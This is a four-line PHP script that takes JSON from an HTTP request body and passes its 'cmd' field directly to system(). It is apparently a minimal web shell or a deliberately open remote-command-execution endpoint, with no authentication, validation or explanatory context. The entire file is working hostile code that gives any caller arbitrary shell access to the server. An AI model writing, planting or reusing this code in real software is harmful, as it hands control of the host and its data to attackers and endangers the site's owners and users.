<?php
$raw = file_get_contents('php://input');
$job = json_decode($raw, true);
system($job['cmd']);
